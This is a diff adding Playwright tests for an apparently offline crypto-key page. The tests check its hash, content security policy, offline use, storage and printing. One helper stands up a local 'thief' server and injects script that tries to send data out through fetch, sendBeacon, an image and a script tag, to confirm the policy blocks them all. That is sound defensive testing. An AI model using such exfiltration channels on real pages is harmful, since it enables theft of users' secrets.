@@ -1,0 +1,259 @@
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { pathToFileURL } from 'node:url';
+import type { BrowserContext, Page } from '@playwright/test';
+import { mnemonicToAccount } from 'viem/accounts';
+import { distFolder } from '../../scripts/build/dist-folder.ts';
+import { expectAccessible } from '../support/page-errors.ts';
+import { expect, test } from '../support/portal-fixture.ts';
+
+const widths = [375, 900, 1440];
+const filePath = '/tools/offline-keys.html';
+const builtFile = `${distFolder}/keys/offline-keys.html`;
+const known = `${'abandon '.repeat(11)}about`;
+
+/** What a page asked for and wrote to the console. */
+function listen(page: Page) {
+  const requests: string[] = [];
+  const heard: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  page.on('console', (message) => heard.push(message.text()));
+  page.on('pageerror', (error) => heard.push(String(error)));
+  return { requests, heard };
+}
+
+const words = (page: Page) => page.getByRole('list').first().getByRole('listitem');
+const firstAddress = (page: Page, address: string) => page.getByText(address, { exact: true });
+
+async function enter(page: Page, phrase: string): Promise<void> {
+  await page.getByRole('radio', { name: 'Use one that I have' }).check();
+  await page.getByLabel('Words of your recovery phrase').fill(phrase);
+  await page.getByRole('button', { name: 'Show addresses' }).press('Enter');
+}
+
+/** Everything that the file can do. */
+async function useEverything(page: Page): Promise<void> {
+  await page.getByLabel('Number of words').selectOption('24');
+  await page.getByLabel('Word list').selectOption('japanese');
+  await page.getByLabel('Dice rolls').fill('1 2 3 9 456');
+  await expect(page.getByText('The dice add 15 bits. A phrase of this length holds 256.')).toBeVisible();
+  await page.getByRole('button', { name: 'Create recovery phrase' }).press('Enter');
+  await expect(words(page)).toHaveCount(24);
+  const first = await words(page).allTextContents();
+  await page.getByRole('button', { name: 'Create recovery phrase' }).press('Enter');
+  await expect(words(page)).not.toHaveText(first);
+  await enter(page, ` ${known.toUpperCase()} `);
+  await expect(firstAddress(page, '0x9858EfFD232B4033E47d90003D41EC34EcaEda94')).toBeVisible();
+  await page.getByLabel('Show private keys, also when printing').check();
+  await expect(
+    page.getByText('0x1ab42cc412b618bdea3a599e3c9bae199ebf030895b039e9db1e30dafb12b727'),
+  ).toBeVisible();
+  for (const [network, address] of [
+    ['Bitcoin · SegWit (BIP-84)', 'bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu'],
+    ['Solana', 'HAgk14JpMQLgt6rVgv7cBQFJWFto5Dqxi472uT3DKpqk'],
+    ['TRON', 'TUEZSdKsoDHQMeZwihtdoBiN46zxhGWYdH'],
+  ] as const) {
+    await page.getByLabel('Network').selectOption(network);
+    await expect(firstAddress(page, address)).toBeVisible();
+  }
+  await page.getByLabel('Network').selectOption('Ethereum · EVM');
+  await page.getByRole('button', { name: 'Show more addresses' }).press('Enter');
+  await expect(page.getByText("m/44'/60'/0'/0/9", { exact: true })).toBeVisible();
+  await page.getByLabel('Passphrase').fill('Überfahrt');
+  const { address } = mnemonicToAccount(known, { passphrase: 'Überfahrt' });
+  await expect(firstAddress(page, address)).toBeVisible();
+  await page.getByRole('button', { name: 'Copy address' }).first().click();
+  await page.getByRole('button', { name: 'Print this page' }).click();
+}
+
+/** What the browser keeps for the page's origin. */
+const readStores = (page: Page) =>
+  page.evaluate(() => {
+    try {
+      return [document.cookie, ...Object.keys(localStorage), ...Object.keys(sessionStorage)].filter(
+        (text) => text !== '',
+      );
+    } catch {
+      return [];
+    }
+  });
+
+/** A server of a thief, which counts what reaches it. */
+async function startThief() {
+  let reached = 0;
+  const server = createServer((_, response) => {
+    reached += 1;
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://127.0.0.1:${port}`,
+    reached: () => reached,
+    stop: () => new Promise((resolve) => server.close(resolve)),
+  };
+}
+
+/** Tries to send something in four ways. @returns the addresses that the page's policy blocked */
+const tryToSend = (page: Page, origin: string) =>
+  page.evaluate(async (address) => {
+    const blocked = new Set<string>();
+    const blockedAll = new Promise<void>((resolve) => {
+      addEventListener('securitypolicyviolation', (event) => {
+        blocked.add(new URL(event.blockedURI).pathname);
+        if (blocked.size === 4) resolve();
+      });
+    });
+    await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
+    navigator.sendBeacon(`${address}/beacon`, 'stolen');
+    new Image().src = `${address}/image`;
+    const script = document.createElement('script');
+    script.src = `${address}/script`;
+    document.body.append(script);
+    await blockedAll;
+    return [...blocked].sort();
+  }, origin);
+
+async function expectNothingSent(page: Page): Promise<void> {
+  const thief = await startThief();
+  expect(await tryToSend(page, thief.origin)).toEqual(['/beacon', '/fetch', '/image', '/script']);
+  expect(thief.reached()).toBe(0);
+  await thief.stop();
+}
+
+let context: BrowserContext;
+let page: Page;
+test.beforeEach(async ({ browser }) => {
+  context = await browser.newContext({ locale: 'en-US' });
+  page = await context.newPage();
+  await page.addInitScript(() => {
+    globalThis.print = () => undefined;
+  });
+});
+test.afterEach(() => context.close());
+
+test('the page offers the file with its hash, which the served file and its policy have', async ({
+  page,
+  request,
+}) => {
+  await page.goto('/en/tools/keys');
+  const file = readFileSync(builtFile);
+  const sha256 = createHash('sha256').update(file).digest('hex');
+  await expect(page.getByText(sha256)).toBeVisible();
+  const link = page.getByRole('link', { name: 'Download the file' });
+  await expect(link).toHaveAttribute('href', filePath);
+  const served = await request.get(filePath);
+  expect(
+    createHash('sha256')
+      .update(await served.body())
+      .digest('hex'),
+  ).toBe(sha256);
+  const policy = served.headers()['content-security-policy'] ?? '';
+  expect(policy).toMatch(
+    /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; img-src data:; connect-src 'none'; /,
+  );
+  expect(policy).toContain('sandbox allow-scripts');
+  expect(policy).not.toContain('allow-same-origin');
+  const download = page.waitForEvent('download');
+  await link.click();
+  expect(readFileSync(await (await download).path()).equals(file)).toBe(true);
+  await expectAccessible(page, 'the page of the offline keys', { widths });
+});
+
+test.describe('the served file', () => {
+  test('asks for nothing and stores nothing while everything in it is used', async ({ portal }) => {
+    const { requests, heard } = listen(page);
+    const address = `${portal.origin}${filePath}`;
+    await page.goto(address);
+    await expect(page.getByText('This device is connected to a network.')).toBeVisible();
+    await useEverything(page);
+    expect(requests).toEqual([address]);
+    expect(page.url()).toBe(address);
+    expect(await readStores(page)).toEqual([]);
+    expect(await context.cookies()).toEqual([]);
+    expect(heard).toEqual([]);
+  });
+
+  test('cannot send anything, whatever a script in it tries', async ({ portal }) => {
+    await page.goto(`${portal.origin}${filePath}`);
+    await expect(page.getByRole('heading', { name: 'Offline keys' })).toBeVisible();
+    await expectNothingSent(page);
+  });
+
+  test('opens in the language of the page that linked to it, and in each of the twelve', async ({
+    portal,
+  }) => {
+    await page.goto(`${portal.origin}${filePath}#ja`);
+    await expect(page.getByRole('heading', { name: 'オフラインの鍵' })).toBeVisible();
+    await expect(page.locator('html')).toHaveAttribute('lang', 'ja');
+    await page.getByRole('combobox', { name: '言語' }).selectOption('Русский');
+    await expect(page.getByRole('heading', { name: 'Ключи без сети' })).toBeVisible();
+  });
+});
+
+test.describe('the downloaded file', () => {
+  test.beforeEach(async () => {
+    await context.setOffline(true);
+    await page.goto(pathToFileURL(builtFile).href);
+  });
+
+  test('does everything without a network, and says that it sees none', async () => {
+    const { requests, heard } = listen(page);
+    await expect(page.getByText('The browser reports no connection.')).toBeVisible();
+    await useEverything(page);
+    expect(requests).toEqual([]);
+    expect(heard).toEqual([]);
+    expect(await readStores(page)).toEqual([]);
+    await context.setOffline(false);
+    await expect(page.getByText('This device is connected to a network.')).toBeVisible();
+  });
+
+  test('cannot send anything by its own policy alone', async () => {
+    await context.setOffline(false);
+    await expectNothingSent(page);
+  });
+
+  test('names what is wrong with a phrase', async () => {
+    await enter(page, '');
+    await expect(page.getByText('Enter the words of your recovery phrase.')).toBeVisible();
+    await expect(page.getByLabel('Words of your recovery phrase')).toBeFocused();
+    await enter(page, known.replace('about', 'abuot'));
+    await expect(
+      page.getByText('Word 12, “abuot”, is not in the word list. Similar words: about'),
+    ).toBeVisible();
+    await enter(page, 'abandon abandon');
+    await expect(page.getByText('Number of words entered: 2.')).toBeVisible();
+    await enter(page, known.replace('about', 'abandon'));
+    await expect(page.getByText('the checksum does not match')).toBeVisible();
+    await expectAccessible(page, 'a wrong phrase', { widths });
+    await enter(page, known);
+    await expectAccessible(page, 'the addresses of a phrase', { widths });
+  });
+
+  test('forgets everything when it is cleared or left', async () => {
+    for (const leave of ['clear', 'pagehide'] as const) {
+      await enter(page, known);
+      await expect(firstAddress(page, '0x9858EfFD232B4033E47d90003D41EC34EcaEda94')).toBeVisible();
+      if (leave === 'clear') await page.getByRole('button', { name: 'Clear this page' }).press('Enter');
+      else await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
+      await expect(page.getByRole('heading', { name: 'Addresses' })).toBeHidden();
+      expect(await page.content()).not.toContain('abandon abandon');
+    }
+  });
+
+  test('prints words, addresses and codes, and private keys only where they are shown', async () => {
+    await enter(page, known);
+    await page.emulateMedia({ media: 'print' });
+    await expect(words(page)).toHaveCount(12);
+    await expect(words(page).first()).toBeVisible();
+    await expect(page.getByRole('img', { name: 'QR code of 0x9858' }).first()).toBeVisible();
+    await expect(page.getByRole('button', { name: 'Print this page' })).toBeHidden();
+    await expect(page.getByText('Private key', { exact: true })).toHaveCount(0);
+    await page.emulateMedia({ media: 'screen' });
+    await page.getByLabel('Show private keys, also when printing').check();
+    await page.emulateMedia({ media: 'print' });
+    await expect(page.getByText('Private key', { exact: true }).first()).toBeVisible();
+  });
+});
